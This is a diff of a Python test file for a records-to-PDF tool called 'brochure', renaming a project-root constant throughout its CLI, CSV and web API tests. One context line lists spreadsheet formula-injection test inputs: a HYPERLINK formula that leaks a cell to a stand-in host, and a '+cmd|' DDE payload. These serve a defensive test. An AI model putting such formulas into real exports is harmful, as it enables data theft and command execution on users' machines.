@@ -23,7 +23,7 @@ from brochure.cli import main
 from brochure.model.project import DEFAULT_RECORD_ID_PATTERN
 from brochure.records import read_records, to_record
 
-from .conftest import ROOT
+from .conftest import PROJECT
 
 MARK = "QZXMARK"
 RECORD = dict(id="HK-77", name="Margaret Ellison", date_of_birth="1952-06-14",
@@ -45,7 +45,7 @@ def _cli(*args: str):
     return result
 
 
-def _summary(tmp_path: Path, text: str, name: str = "record.yaml", root: Path = ROOT):
+def _summary(tmp_path: Path, text: str, name: str = "record.yaml", root: Path = PROJECT):
     path = tmp_path / name
     path.write_text(text)
     return _cli("summary", str(path), "-o", str(tmp_path / "out.pdf"), "--root", str(root))
@@ -56,7 +56,7 @@ def _yaml(record: dict) -> str:
                    for key, value in record.items())
 
 
-def _batch(tmp_path: Path, path: Path, root: Path = ROOT) -> tuple[object, list[dict]]:
+def _batch(tmp_path: Path, path: Path, root: Path = PROJECT) -> tuple[object, list[dict]]:
     out = tmp_path / "out"
     result = _cli("batch", str(path), "--out", str(out), "--root", str(root))
     rows = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text())))
@@ -247,7 +247,7 @@ def test_other_yaml_faults_do_not_quote_the_record(tmp_path, text):
 def test_a_csv_column_is_named_only_when_close_to_a_field(tmp_path):
     path = tmp_path / "day.csv"
     path.write_text(",".join([*HEADER, f"{MARK} phone", "pian", f"{MARK} phone"]) + "\n")
-    result = _cli("summary", str(path), "--root", str(ROOT))
+    result = _cli("summary", str(path), "--root", str(PROJECT))
     assert result.exit_code == 2, result.output
     column = len(",".join(HEADER)) + 2
     assert f"day.csv:1:{column}: error: an unknown column; expected one of: id, name," in \
@@ -259,7 +259,7 @@ def test_a_csv_column_is_named_only_when_close_to_a_field(tmp_path):
 def test_a_column_twice_is_named_only_when_it_is_a_field(tmp_path):
     path = tmp_path / "day.csv"
     path.write_text(",".join([*HEADER, "pain", MARK, MARK]) + "\n")
-    result = _cli("summary", str(path), "--root", str(ROOT))
+    result = _cli("summary", str(path), "--root", str(PROJECT))
     assert result.exit_code == 2, result.output
     assert "column 'pain' appears twice" in result.output
     assert "a column appears twice" in result.output, result.output
@@ -273,7 +273,7 @@ def client():
     from brochure.project import load_project
     from brochure.web import create_app
 
-    return TestClient(create_app(load_project(ROOT)), raise_server_exceptions=False)
+    return TestClient(create_app(load_project(PROJECT)), raise_server_exceptions=False)
 
 
 def test_the_api_does_not_quote_an_unknown_key(client):
@@ -314,10 +314,10 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Open record")', "+cmd|'
 
 
 def test_the_shipped_project_file_states_the_default_pattern_and_examples_match_it():
-    shipped = yaml.safe_load((ROOT / "content" / "project.yaml").read_text())
+    shipped = yaml.safe_load((PROJECT / "content" / "project.yaml").read_text())
     assert shipped["record_id_pattern"] == DEFAULT_RECORD_ID_PATTERN
     pattern = re.compile(DEFAULT_RECORD_ID_PATTERN)
-    for path in sorted((ROOT / "content" / "patients").iterdir()):
+    for path in sorted((PROJECT / "content" / "patients").iterdir()):
         for row in read_records(path):
             assert pattern.fullmatch(row.record.id), (path, row.row)
     assert pattern.fullmatch("a" * 64) and not pattern.fullmatch("a" * 65)
